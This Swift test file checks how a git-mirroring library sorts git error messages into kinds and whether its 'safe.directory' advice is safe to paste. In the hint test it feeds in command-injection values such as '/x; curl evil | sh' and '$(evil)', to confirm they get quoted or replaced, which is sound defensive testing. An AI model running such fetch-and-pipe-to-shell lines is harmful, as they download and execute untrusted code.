import Foundation
import TestSupport
import Testing

@testable import GitRead

@Suite struct GitFailureTests {
  private func error(_ complaint: String, exit: ChildProcess.Exit = .code(128)) -> GitError {
    GitFailure(repository: "team/thing", command: "fetch", complaint: complaint).error(exit: exit)
  }

  @Test func complaintsBecomeKinds() {
    let table: [(complaint: String, kind: GitError.Kind)] = [
      ("fatal: unable to access 'https://h/x/': Could not resolve host: h", .unreachable),
      ("fatal: unable to access 'https://h/': server certificate verification failed. CAfile: none", .unreachable),
      ("fatal: Authentication failed for 'https://h/x/'", .authentication),
      ("fatal: could not read Username for 'https://h': terminal prompts disabled", .authentication),
      ("git@h: Permission denied (publickey).\nfatal: Could not read from remote repository.", .authentication),
      ("Host key verification failed.\nfatal: Could not read from remote repository.", .authentication),
      ("fatal: '/x' does not appear to be a git repository\nfatal: Could not read from remote repository.", .notFound),
      ("remote: Repository not found.\nfatal: repository 'https://h/x/' not found", .notFound),
      ("fatal: unable to update url base from redirection:\n  asked for: a\n  redirect: b", .redirect),
      ("fatal: transport 'ext' not allowed", .refusedAddress),
      ("fatal: strange hostname '-x' blocked", .refusedAddress),
      ("error: object 12: hasDotgit: contains '.git'\nfatal: fsck error in packed object", .refusedContent),
      ("fatal: cannot create: No space left on device", .diskFull),
      ("fatal: write error: File too large", .tooLarge),
      ("fatal: exceeded maximum allowed tree depth", .tooLarge),
      (
        "error: pack-objects died of signal 11\nremote: aborting due to possible repository corruption\n"
          + "fatal: protocol error: bad pack header", .tooLarge
      ),
      ("fatal: bad object refs/heads/main", .corrupt),
      ("error: inflate: data stream error", .corrupt),
      ("fatal: bad revision 'x'", .unknownRevision),
      ("something new", .failed), ("", .failed),
    ]
    for row in table {
      let error = error(row.complaint)
      #expect(error.kind == row.kind, "\(row.complaint): \(error)")
      #expect(error.repository == "team/thing" && error.message.hasPrefix("team/thing: "))
    }
  }

  @Test func signalsAreTold() {
    let table: [(Int32, GitError.Kind)] = [
      (SIGKILL, .failed), (SIGSEGV, .tooLarge), (SIGXFSZ, .tooLarge), (SIGABRT, .failed),
    ]
    for (signal, kind) in table { #expect(error("", exit: .signal(signal)).kind == kind, "\(signal)") }
  }

  @Test func theAdviceForAnotherUsersFolderIsSafeToPaste() {
    func hint(_ line: String) -> String {
      error("fatal: detected dubious ownership in repository at '/x'\nTo add an exception\n\n\t\(line)\n").hint
    }
    let command = "git config --global --add safe.directory "
    let table: [(line: String, hint: String)] = [
      ("/srv/x", "/srv/x"), ("'/srv/my x'", "'/srv/my x'"), ("'/srv/it'\\''s'", "'/srv/it'\\''s'"),
      ("/x; curl evil | sh", "'/x; curl evil | sh'"), ("$(evil)", "FOLDER"), ("*", "FOLDER"), ("'*'", "FOLDER"),
    ]
    for row in table {
      #expect(hint(command + row.line) == "If you trust it, run: " + command + row.hint, "\(row.line)")
    }
    #expect(hint("remote: \(command)/evil").hasSuffix("FOLDER"))
  }

  @Test(.enabled(if: geteuid() == 0)) func anotherUsersRepositoryNamesTheWayOut() throws {
    let shop = try Workshop()
    let source = try shop.source("it's mine")
    try source.commit(["a": "1"])
    #expect(chown(source.path, 65534, 65534) == 0 && chown(source.gitFolder, 65534, 65534) == 0)
    let mirror = try shop.mirror(of: source)
    let error = try failure { _ = try mirror.update() }
    #expect(error.kind == .ownership, "\(error)")
    let line = try #require(error.hint.split(separator: "run: ").last).description
    // The advice, followed, lets the next start read it.
    let home = shop.path("home")
    try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)
    let shell = Process()
    shell.executableURL = URL(fileURLWithPath: "/bin/sh")
    shell.arguments = ["-c", line]
    shell.environment = ["HOME": home, "PATH": "/usr/bin:/bin"]
    try shell.run()
    shell.waitUntilExit()
    let git = try GitEnvironment(dataFolder: shop.path("again"), surroundings: ["HOME": home, "PATH": "/usr/bin:/bin"])
    let again = Mirror(of: mirror.address, in: shop.path("m"), name: "x", git: git)
    #expect(try !again.update().isEmpty)
  }
}
